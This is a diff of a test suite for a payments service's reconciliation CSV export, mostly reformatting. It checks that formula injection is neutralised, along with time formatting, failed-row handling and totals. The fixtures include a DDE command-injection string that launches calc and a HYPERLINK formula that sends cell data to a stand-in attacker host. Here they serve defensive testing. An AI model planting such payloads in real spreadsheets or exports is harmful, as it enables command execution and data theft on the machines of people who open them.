@@ -28,11 +28,20 @@ describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
   }
 
   it('prefixes a quote to free-text cells starting with = + - @ tab or CR; plain ids, numbers and amounts stay as they are', async () => {
-    const { merchant } = await createMerchant(prisma, { name: '=cmd|\' /C calc\'!A0' });
-    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Refund")', '+SUM(A1:A9)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+    const { merchant } = await createMerchant(prisma, { name: "=cmd|' /C calc'!A0" });
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?d="&A1,"Refund")',
+      '+SUM(A1:A9)',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
     const harmless = ['INV-2026-0001', '-5', '+62812', 'A=1+1', "'quoted"];
     for (const id of [...hostile, ...harmless]) await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, id);
-    const first = await prisma.payin.findFirstOrThrow({ where: { merchantId: merchant.id, merchantTrxId: 'INV-2026-0001' } });
+    const first = await prisma.payin.findFirstOrThrow({
+      where: { merchantId: merchant.id, merchantTrxId: 'INV-2026-0001' },
+    });
     await prisma.payin.update({ where: { id: first.id }, data: { issuer: '=1+1', rrn: '@A1', nmid: '-1+1' } });
 
     const body = await exportCsv(merchant.id);
@@ -40,7 +49,15 @@ describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
     const ids = rows.map((r) => r.merchantTrxId).sort();
     expect(ids).toEqual([...hostile.map((id) => `'${id}`), ...harmless].sort());
     const normal = rows.find((r) => r.merchantTrxId === 'INV-2026-0001');
-    expect(normal).toMatchObject({ merchantName: "'=cmd|' /C calc'!A0", issuer: "'=1+1", rrn: "'@A1", nmid: "'-1+1", amount: '50000', fee: '500', netAmount: '49500' });
+    expect(normal).toMatchObject({
+      merchantName: "'=cmd|' /C calc'!A0",
+      issuer: "'=1+1",
+      rrn: "'@A1",
+      nmid: "'-1+1",
+      amount: '50000',
+      fee: '500',
+      netAmount: '49500',
+    });
     // Unchanged bytes for an ordinary row: the id is written bare, the amounts as numbers.
     expect(body).toMatch(/^INV-2026-0001,QR[0-9A-F]{16},/m);
     expect(body).toMatch(/,50000,500,49500,/);
@@ -53,25 +70,43 @@ describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
     const paidId = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'PAID-1');
     await prisma.payin.update({ where: { id: paidId }, data: { issuer: 'OVO' } });
     const failedId = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'FAILED-1');
-    await prisma.payin.update({ where: { id: failedId }, data: { status: 'failed', issuer: 'DANA', rrn: null, successAt: null, failureReason: 'Payment failed' } });
+    await prisma.payin.update({
+      where: { id: failedId },
+      data: { status: 'failed', issuer: 'DANA', rrn: null, successAt: null, failureReason: 'Payment failed' },
+    });
 
     const rows = parse(await exportCsv(merchant.id), { columns: true }) as Record<string, string>[];
-    expect(rows.find((r) => r.merchantTrxId === 'PAID-1')).toMatchObject({ status: 'success', issuer: 'OVO', rrn: expect.stringMatching(/.+/) });
-    expect(rows.find((r) => r.merchantTrxId === 'FAILED-1')).toMatchObject({ status: 'failed', issuer: '', rrn: '', success_at: '' });
+    expect(rows.find((r) => r.merchantTrxId === 'PAID-1')).toMatchObject({
+      status: 'success',
+      issuer: 'OVO',
+      rrn: expect.stringMatching(/.+/),
+    });
+    expect(rows.find((r) => r.merchantTrxId === 'FAILED-1')).toMatchObject({
+      status: 'failed',
+      issuer: '',
+      rrn: '',
+      success_at: '',
+    });
     // The row keeps what the acquirer said.
     expect((await prisma.payin.findUniqueOrThrow({ where: { id: failedId } })).issuer).toBe('DANA');
   });
 
-  it('prints times as Jakarta wall-clock YYYY-MM-DD HH:MM:SS, cut (not rounded) to the second, whatever the connection\'s DateStyle and TimeZone', async () => {
+  it("prints times as Jakarta wall-clock YYYY-MM-DD HH:MM:SS, cut (not rounded) to the second, whatever the connection's DateStyle and TimeZone", async () => {
     const { merchant } = await createMerchant(prisma);
     const id = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'TIMED-1');
     // 987 ms past the second: rounding would print the next second.
     const createdAt = new Date(Math.floor(Date.now() / 1000) * 1000 - 60_000 + 987);
     const successAt = new Date(createdAt.getTime() + 30_000);
     await prisma.payin.update({ where: { id }, data: { createdAt, successAt } });
-    const foreign = new Pool({ connectionString: process.env.DATABASE_URL, max: 1, options: '-c DateStyle=SQL,DMY -c TimeZone=America/New_York' });
+    const foreign = new Pool({
+      connectionString: process.env.DATABASE_URL,
+      max: 1,
+      options: '-c DateStyle=SQL,DMY -c TimeZone=America/New_York',
+    });
     try {
-      const row = (parse(await exportCsv(merchant.id, foreign), { columns: true }) as Record<string, string>[]).find((r) => r.merchantTrxId === 'TIMED-1');
+      const row = (parse(await exportCsv(merchant.id, foreign), { columns: true }) as Record<string, string>[]).find(
+        (r) => r.merchantTrxId === 'TIMED-1',
+      );
       expect(row).toMatchObject({
         createdAt: formatJakartaDateTime(new Date(createdAt.getTime() - 987)),
         success_at: formatJakartaDateTime(new Date(successAt.getTime() - 987)),
@@ -91,7 +126,12 @@ describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
              CASE WHEN g % 4 = 0 THEN 'failed' ELSE 'success' END, lpad(g::text, 12, '0'), now() - interval '10 minutes', now() - interval '10 minutes',
              '${merchant.nmid}', 'DANA', now() + interval '5 minutes'
         FROM generate_series(1, 20000) AS g`);
-    const { csv, summary, done } = await streamReconCsv(pool, merchant.id, new Date(Date.now() - 3_600_000), new Date(Date.now() + 3_600_000));
+    const { csv, summary, done } = await streamReconCsv(
+      pool,
+      merchant.id,
+      new Date(Date.now() - 3_600_000),
+      new Date(Date.now() + 3_600_000),
+    );
     await insertPayin(prisma, merchant.id, 9_900_000n, 99_000n, 'LATE-1');
     const rows = parse(await readText(csv), { columns: true }) as Record<string, string>[];
     const { totals } = await summary;
@@ -100,6 +140,11 @@ describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
     expect(rows.some((r) => r.merchantTrxId === 'LATE-1')).toBe(false);
     const paid = rows.filter((r) => r.status === 'success');
     const rupiah = (col: string) => paid.reduce((sum, r) => sum + BigInt(r[col]) * 100n, 0n);
-    expect(totals).toEqual({ rowCount: 20_000, gross: rupiah('amount'), fees: rupiah('fee'), net: rupiah('netAmount') });
+    expect(totals).toEqual({
+      rowCount: 20_000,
+      gross: rupiah('amount'),
+      fees: rupiah('fee'),
+      net: rupiah('netAmount'),
+    });
   });
 });
